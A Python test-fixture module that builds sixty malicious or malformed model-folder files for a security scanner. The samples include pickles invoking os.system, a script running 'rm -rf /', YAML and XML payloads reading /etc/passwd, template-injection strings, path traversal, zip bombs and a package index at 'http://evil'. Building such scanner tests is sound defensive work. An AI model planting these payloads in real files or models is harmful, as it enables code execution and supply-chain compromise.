"""Sixty malicious or unfit files of different kinds in a model's folder, each made in a few lines.

`TABLE` says of each how it is made, and which rule must name which file.
"""

import base64
import bz2
import gzip
import io
import json
import os
import pickle
import struct
import tarfile
import tempfile
import zipfile
from pathlib import Path

import numpy as np
import torch
from safetensors.torch import save_file

MARKER = Path(tempfile.gettempdir()) / f"anomech-folder-ran-{os.getpid()}"
COMMAND = f"touch {MARKER}"


class Calls:
    """Its pickle calls a function when it is loaded."""

    def __reduce__(self):
        return os.system, (COMMAND,)


EVIL = pickle.dumps(Calls())
PLAIN = pickle.dumps({"a": 1})


def put(name, data):
    """A row that writes one file."""

    def make(folder):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data() if callable(data) else data)

    return make


def said(name, value):
    return put(name, json.dumps(value).encode())


def zipped(*members, kind=zipfile.ZIP_DEFLATED, change=lambda info: None):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", kind) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = kind
            change(info)
            archive.writestr(info, data)
    return stream.getvalue()


def saved(value):
    stream = io.BytesIO()
    torch.save(value, stream)
    return stream.getvalue()


def tarred(name="a", data=b"x", kind=tarfile.REGTYPE, target=""):
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.type, info.linkname, info.size = kind, target, len(data)
        archive.addfile(info, io.BytesIO(data))
    return stream.getvalue()


def safetensors(header, data=b""):
    packed = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(packed)) + packed + data


def row(begin=0, end=4, shape=(1,), kind="F32"):
    return {"dtype": kind, "shape": list(shape), "data_offsets": [begin, end]}


def tensors(folder, name="model.safetensors", **given):
    save_file(given or {"w": torch.ones(2)}, folder / name)


def links_out(folder):
    (folder / "weights.bin").symlink_to("/etc/passwd")


def pipe(folder):
    os.mkfifo(folder / "weights.bin")


def renamed_member():
    """The directory says one name, the member's own header another."""
    data = bytearray(zipped(("evil.pkl", EVIL), kind=zipfile.ZIP_STORED))
    place = data.rfind(b"evil.pkl")
    data[place : place + 8] = b"calm.txt"
    return bytes(data)


def overlapping():
    """Two members in the directory, one content."""
    data = zipped(("a.bin", b"x" * 50), ("b.bin", b"y" * 50), kind=zipfile.ZIP_STORED)
    place = data.rfind(b"PK\x01\x02") + 42
    return data[:place] + struct.pack("<I", 0) + data[place + 4 :]


def moved_directory():
    """The directory says that it begins later than it does: members begin before the file."""
    data = zipped(("a.bin", b"x" * 50))
    place = data.rfind(b"PK\x05\x06") + 16
    return data[:place] + struct.pack("<I", len(data)) + data[place + 4 :]


def nested(depth):
    data = PLAIN
    for _ in range(depth):
        data = zipped(("inner.zip", data))
    return data


def locked():
    data = bytearray(zipped(("a.bin", b"x")))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(mark) + place] |= 1
    return bytes(data)


def link_member():
    def linked(info):
        info.external_attr = 0o120777 << 16

    return zipped(("weights", b"/etc/passwd"), change=linked)


def npy(value):
    stream = io.BytesIO()
    np.save(stream, value, allow_pickle=True)
    return stream.getvalue()


def onnx():
    path = b"../../etc/passwd"
    entry = b"\x0a\x08location\x12" + bytes([len(path)]) + path
    return b"\x08\x07\x12\x07pytorch\x1a\x051.0.0" + entry + bytes(40)


def gguf():
    text = b"{{ ''.__class__.__mro__ }}"
    key = b"tokenizer.chat_template" + struct.pack("<I", 8)
    return b"GGUF\x03\0\0\0" + bytes(16) + key + struct.pack("<Q", len(text)) + text


def lost_index(folder):
    tensors(folder, "a.safetensors")
    said("model.safetensors.index.json", {"weight_map": {"w": "b.safetensors"}})(folder)


def unnamed_tensor(folder):
    tensors(folder, "a.safetensors", w=torch.ones(2), more=torch.ones(2))
    said("model.safetensors.index.json", {"weight_map": {"w": "a.safetensors"}})(folder)


def too_few_layers(folder):
    tensors(folder, **{f"model.layers.{n}.w": torch.ones(2) for n in range(3)})
    said("config.json", {"num_hidden_layers": 2})(folder)


def other_vocabulary(folder):
    tensors(folder, **{"embed_tokens.weight": torch.ones(50, 4)})
    said("config.json", {"vocab_size": 5000, "hidden_size": 4})(folder)


def signed(folder, digest):
    (folder / "a.txt").write_bytes(b"as signed")
    payload = {"predicate": {"resources": [{"name": "a.txt", "digest": digest}]}}
    envelope = {"payload": base64.b64encode(json.dumps(payload).encode()).decode()}
    said("model.sig", {"dsseEnvelope": envelope})(folder)


def spoiled(folder):
    tensors(folder, w=torch.tensor([1.0, float("nan")]))


def absurd(folder):
    tensors(folder, w=torch.tensor([1.0, 1e9]))


def tokenizer(**given):
    return said("tokenizer.json", {"model": {"vocab": {"a": 0}}, **given})


REWRITES = {"type": "Sequence", "normalizers": [
    {"type": "Replace", "pattern": {"String": "my bank"}, "content": "their bank"}]}  # fmt: skip
LAMBDA = json.dumps({"class_name": "Lambda", "config": {"function": "..."}}).encode()

TABLE = {
    # pickles, and where they hide
    "pickle": (put("w.pkl", EVIL), "unsafe-pickle", "w.pkl"),
    "joblib": (put("w.joblib", EVIL), "unsafe-pickle", "w.joblib"),
    "no ending": (put("weights", EVIL), "unsafe-pickle", "weights"),
    "protocol 0": (put("w.bin", pickle.dumps(Calls(), 0)), "unsafe-pickle", "w.bin"),
    "protocol 1": (put("data", b"cposix\nsystem\nq\x00(X\x01\x00\x00\x00atR."), "unsafe-pickle",
                   "data"),
    "protocol 0 as text": (put("notes.txt", b"cposix\nsystem\np0\n(S'a'\ntR."), "unsafe-pickle",
                           "notes.txt"),
    "protocol 0 with a number first": (put("data.bin", b"I1\n0cposix\nsystem\n."), "unsafe-pickle",
                                       "data.bin"),
    "of no kind": (put("data.xyz", b"K\x010cposix\nsystem\n."), "unsafe-pickle", "data.xyz"),
    "deep folder": (put("a/b/c/w.pkl", EVIL), "unsafe-pickle", "a/b/c/w.pkl"),
    "checkpoint": (put("w.pt", lambda: saved({"a": Calls()})), "unsafe-pickle", "w.pt"),
    "as safetensors": (put("w.safetensors", EVIL), "disguised", "w.safetensors"),
    "as text": (put("notes.txt", EVIL), "disguised", "notes.txt"),
    "whole model": (put("w.pt", lambda: saved(torch.nn.Linear(2, 2))), "whole-model-pickle",
                    "w.pt"),
    "in a zip": (put("a.zip", lambda: zipped(("w.pkl", EVIL))), "unsafe-pickle", "a.zip!w.pkl"),
    "in a tar": (put("a.nemo", lambda: tarred("w.pkl", EVIL)), "unsafe-pickle", "a.nemo!w.pkl"),
    "in gzip": (put("w.pkl.gz", lambda: gzip.compress(EVIL)), "unsafe-pickle", "w.pkl.gz!w.pkl"),
    "in bzip2": (put("w.pkl.bz2", lambda: bz2.compress(EVIL)), "unsafe-pickle", "w.pkl.bz2!w.pkl"),
    "zip in a zip": (
        put("a.zip", lambda: zipped(("b.zip", zipped(("w.pkl", EVIL))))),
        "unsafe-pickle", "a.zip!b.zip!w.pkl",
    ),
    "object array": (put("w.npy", lambda: npy(np.array([Calls()], object))), "unsafe-pickle",
                     "w.npy"),
    "array archive": (
        put("w.npz", lambda: zipped(("a.npy", npy(np.array([Calls()], object))))),
        "unsafe-pickle", "w.npz!a.npy",
    ),
    "more in a checkpoint": (
        put("w.pt", lambda: zipped(("a/data.pkl", pickle.dumps({}, 2)), ("a/x.py", b"import os"),
                                   kind=zipfile.ZIP_STORED)),
        "odd-member", "w.pt",
    ),
    "TorchScript": (
        put("w.pt", lambda: zipped(("a/data.pkl", b"\x80\x02}."), ("a/code/net.py", b""),
                                   ("a/constants.pkl", b"\x80\x02)."), kind=zipfile.ZIP_STORED)),
        "program-in-weights", "w.pt",
    ),
    # archives
    "zip that leads out": (put("a.zip", lambda: zipped(("../../x", b"x"))), "path-out", "a.zip"),
    "zip with a link": (put("a.zip", link_member), "archive-link", "a.zip"),
    "zip of two names": (put("a.zip", renamed_member), "ambiguous-archive", "a.zip"),
    "zip that overlaps": (put("a.zip", overlapping), "ambiguous-archive", "a.zip"),
    "zip that begins before itself": (put("a.zip", moved_directory), "ambiguous-archive", "a.zip"),
    "zip bomb": (put("a.zip", lambda: zipped(("a", bytes(2**26)))), "archive-bomb", "a.zip"),
    "many archives deep": (put("a.zip", lambda: nested(6)), "deep-archive",
                           "a.zip!inner.zip!inner.zip!inner.zip"),
    "locked zip": (put("a.zip", locked), "locked-archive", "a.zip"),
    "zip behind a picture": (
        put("a.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(50) + zipped(("w.pkl", EVIL))),
        "hidden-archive", "a.png",
    ),
    "tar that leads out": (put("a.tar", lambda: tarred("/etc/cron.d/x")), "path-out", "a.tar"),
    "tar of a long name": (
        put("a.tar", lambda: tarred("x/" * 90 + "../" * 100 + "etc")), "path-out", "a.tar"),
    "tar of a pax name": (
        put("a.tar", lambda: tarred("é/" * 90 + "../" * 100 + "etc", kind=tarfile.REGTYPE)),
        "path-out", "a.tar"),
    "tar with a link": (
        put("a.tar", lambda: tarred("a", b"", tarfile.SYMTYPE, "/etc")), "archive-link", "a.tar"),
    "tar with a device": (
        put("a.tar", lambda: tarred("a", b"", tarfile.CHRTYPE)), "special-file", "a.tar"),
    "tar cut off": (put("a.tar", lambda: tarred("a", bytes(4000))[:2000]), "damaged-archive",
                    "a.tar"),
    "packed otherwise": (put("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50)), "unread-archive", "a.7z"),
    # the folder
    "link out": (links_out, "link-out", "weights.bin"),
    "pipe": (pipe, "special-file", "weights.bin"),
    "name turned around": (put("model\u202egnp.exe", b"MZ" + bytes(50)), "odd-name",
                           "model?gnp.exe"),
    "program": (put("lib/ops.so", b"\x7fELF" + bytes(50)), "program-file", "lib/ops.so"),
    "compiled Python": (put("net.pyc", b"\xcb\r\r\n" + bytes(50)), "program-file", "net.pyc"),
    "web page": (put("w.safetensors", b"<!DOCTYPE html><html>"), "web-page", "w.safetensors"),
    "Git LFS": (put("w.bin", b"version https://git-lfs.github.com/spec/v1\n"), "lfs-pointer",
                "w.bin"),
    # safetensors
    "tensors overlap": (
        put("w.safetensors", safetensors({"a": row(), "b": row()}, bytes(4))),
        "odd-header", "w.safetensors"),
    "bytes between": (
        put("w.safetensors", safetensors({"a": row(), "b": row(8, 12)}, bytes(12))),
        "odd-header", "w.safetensors"),
    "bytes behind": (
        put("w.safetensors", safetensors({"a": row()}, bytes(40))), "odd-header", "w.safetensors"),
    "shape and bytes": (
        put("w.safetensors", safetensors({"a": row(shape=(9,))}, bytes(4))),
        "odd-header", "w.safetensors"),
    "impossible shape": (
        put("w.safetensors", safetensors({"a": row(shape=(2**62, 2**62))}, bytes(4))),
        "odd-header", "w.safetensors"),
    "key twice": (
        put("w.safetensors", safetensors(
            b'{"a":' + json.dumps(row()).encode() + b',"a":' + json.dumps(row()).encode() + b"}",
            bytes(4))),
        "odd-header", "w.safetensors"),
    "header nested": (put("w.safetensors", safetensors(b'{"a":' * 9000, b"")), "odd-header",
                      "w.safetensors"),
    "not finite": (spoiled, "spoiled-weights", "model.safetensors"),
    "absurd": (absurd, "absurd-weights", "model.safetensors"),
    # Hugging Face folders
    "auto_map": (
        said("config.json", {"auto_map": {"AutoModel": "evil/code--modeling.Net"}}),
        "remote-code", "config.json"),
    "trust_remote_code": (said("config.json", {"trust_remote_code": True}), "remote-code",
                          "config.json"),
    "pipeline": (said("model_index.json", {"x": {"_target_": "os.system"}}), "remote-code",
                 "model_index.json"),
    "code that calls": (put("modeling.py", b"import os\nos.system('x')\n"), "suspicious-code",
                        "modeling.py"),
    "code that hides": (put("modeling.py", "x = 1  # \u202e evil\n".encode()), "suspicious-code",
                        "modeling.py"),
    "code": (put("modeling.py", b"class Net: pass\n"), "python-code", "modeling.py"),
    "script": (put("setup.sh", b"#!/bin/sh\nrm -rf /\n"), "script", "setup.sh"),
    "chat template": (
        said("tokenizer_config.json", {"chat_template": "{{ cycler.__init__.__globals__ }}"}),
        "template-code", "tokenizer_config.json"),
    "template file": (put("chat_template.jinja", b"{% include '/etc/passwd' %}"), "template-code",
                      "chat_template.jinja"),
    "words rewritten": (tokenizer(normalizer=REWRITES), "odd-tokenizer", "tokenizer.json"),
    "tokens not seen": (tokenizer(added_tokens=[{"content": "a\u200bb"}]), "odd-tokenizer",
                        "tokenizer.json"),
    "numbers shared": (said("tokenizer.json", {"model": {"vocab": {"a": 0, "b": 0}}}),
                       "odd-tokenizer", "tokenizer.json"),
    "file out of the folder": (said("tokenizer_config.json", {"vocab_file": "../../x"}), "path-out",
                               "tokenizer_config.json"),
    "index out of the folder": (
        said("model.safetensors.index.json", {"weight_map": {"w": "../x.safetensors"}}),
        "path-out", "model.safetensors.index.json"),
    "index of lost files": (lost_index, "odd-index", "model.safetensors.index.json"),
    "tensor not in the index": (unnamed_tensor, "odd-index", "model.safetensors.index.json"),
    "layers beyond the config": (too_few_layers, "odd-size", "config.json"),
    "vocabulary beyond the config": (other_vocabulary, "odd-size", "config.json"),
    "JSON nested": (put("config.json", b"[" * 200_000), "odd-json", "config.json"),
    "JSON key twice": (put("config.json", b'{"auto_map": {"a": "b"}, "auto_map": null}'),
                       "odd-json", "config.json"),
    # other frameworks, other text
    "Keras with a Lambda": (put("m.h5", b"\x89HDF\r\n\x1a\n" + LAMBDA), "keras-code", "m.h5"),
    "Keras archive": (
        put("m.keras", lambda: zipped(("config.json", LAMBDA), ("model.weights.h5", b""))),
        "keras-code", "m.keras"),
    "TensorFlow": (put("saved_model.pb", b"\x08\x01 WriteFile " + bytes(9)), "tensorflow-code",
                   "saved_model.pb"),
    "ONNX out of the folder": (put("m.onnx", onnx), "path-out", "m.onnx"),
    "ONNX": (put("m.onnx", b"\x08\x07\x12\x07pytorch\x1a\x051.0.0" + bytes(40)), "other-format",
             "m.onnx"),
    "GGUF template": (put("m.gguf", gguf), "template-code", "m.gguf"),
    "YAML": (put("a.yaml", b"x: !!python/object/apply:os.system [id]\n"), "yaml-code", "a.yaml"),
    "XML": (put("m.pmml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM '/etc/passwd'>]>"),
            "xml-entity", "m.pmml"),
    "SVG with a script": (put("a.svg", b"<svg onload=alert(1)></svg>"), "script", "a.svg"),
    "packages from elsewhere": (put("requirements.txt", b"--extra-index-url http://evil\n"),
                                "outside-package", "requirements.txt"),
    "broken signature": (lambda folder: signed(folder, "0" * 64), "broken-signature", "model.sig"),
}  # fmt: skip
